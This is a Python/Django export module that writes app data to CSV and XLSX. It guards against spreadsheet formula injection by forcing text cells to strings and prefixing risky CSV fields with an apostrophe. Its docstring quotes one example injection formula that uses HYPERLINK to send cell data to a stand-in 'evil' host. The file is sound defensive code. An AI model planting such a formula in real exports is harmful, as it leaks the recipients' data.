"""Every spreadsheet cell the app produces is written here, as CSV or XLSX.

Text in an export is often typed by a city's users, and a spreadsheet program runs a cell that
starts with "=" (and, in CSV, "+", "-" or "@") as a formula: `=HYPERLINK("http://evil/?"&A1)`
in an evidence note would send a partner's data elsewhere when they open the file. So text is
always written as text: an XLSX string cell, a CSV field with an apostrophe in front (OWASP's
advice on CSV injection). Numbers and dates keep their types so they still sort and sum.

Every CSV starts with a UTF-8 byte-order mark: without it Excel on Windows reads the file as
the local code page and "San Sebastián" comes out garbled.
"""

import csv
import datetime
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

# A column whose texts run longer than this gets a wide column (headers are translated, so
# the width follows what the column holds, not its name).
WIDE_TEXT = 40
# A spreadsheet program reads a CSV field starting with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Excel keeps at most this many characters in a cell and "repairs" a file with longer ones.
XLSX_CELL_LIMIT = 32_767
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
NUMBERS = (int, float, Decimal)
BOM = "\ufeff"


def _xlsx_text(value) -> str:
    # Control characters are not allowed in XLSX XML: openpyxl would refuse the whole file.
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    if len(text) > XLSX_CELL_LIMIT:
        cut_mark = " " + _("… (continued in the app)")
        text = text[: XLSX_CELL_LIMIT - len(cut_mark)] + cut_mark
    return text


def _write_cell(cell, value) -> None:
    if value is None or value == "":
        return
    if isinstance(value, datetime.datetime):
        # XLSX has no time zones: write the wall-clock time of the site's zone.
        if value.tzinfo is not None:
            value = timezone.localtime(value).replace(tzinfo=None)
        cell.value = value
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, datetime.date):
        cell.value = value
        cell.number_format = DATE_FORMAT
    elif isinstance(value, NUMBERS):  # bool is an int, and stays a boolean cell
        cell.value = value
    else:
        cell.value = _xlsx_text(value)
        # openpyxl makes any str starting with "=" a formula; this keeps it a string.
        cell.data_type = "s"


def _fill_sheet(sheet, columns: list[str], rows: list[list]) -> None:
    wrap = Alignment(wrap_text=True, vertical="top")
    bold = Font(bold=True)
    for c, name in enumerate(columns, start=1):
        cell = sheet.cell(row=1, column=c)
        _write_cell(cell, name)
        cell.font = bold
    for r, row in enumerate(rows, start=2):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=c)
            _write_cell(cell, value)
            cell.alignment = wrap
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = sheet.dimensions
    for i in range(1, len(columns) + 1):
        longest = max((len(str(row[i - 1])) for row in rows[:200] if len(row) >= i), default=0)
        sheet.column_dimensions[get_column_letter(i)].width = 50 if longest > WIDE_TEXT else 16


def to_xlsx_book(sheets: list[tuple[str, list[str], list[list]]]) -> bytes:
    """A workbook of several sheets, each (title, columns, rows), in the order given."""
    book = Workbook()
    book.remove(book.active)
    for title, columns, rows in sheets:
        _fill_sheet(book.create_sheet(title[:31]), columns, rows)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def to_xlsx(title: str, columns: list[str], rows: list[list]) -> bytes:
    return to_xlsx_book([(title, columns, rows)])


def _csv_field(value):
    kind = type(value)  # exact types first: an export of 20,000 rows has 400,000 fields
    if kind is str:
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    if kind is int or kind is float:
        return value
    if value is None:
        return ""
    if isinstance(value, NUMBERS):  # a negative number is a number, not a formula
        return value
    if isinstance(value, datetime.datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, datetime.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_chunks(columns: list[str], rows: Iterable[list]) -> Iterator[str]:
    """The CSV as pieces of text, the byte-order mark first: for a streaming response."""
    out = io.StringIO()
    writer = csv.writer(out)
    out.write(BOM)
    writer.writerow([_csv_field(v) for v in columns])
    for row in rows:
        writer.writerow([_csv_field(v) for v in row])
        if out.tell() > 64_000:
            yield out.getvalue()
            out.seek(0)
            out.truncate()
    yield out.getvalue()


def to_csv(columns: list[str], rows: Iterable[list]) -> str:
    return "".join(csv_chunks(columns, rows))
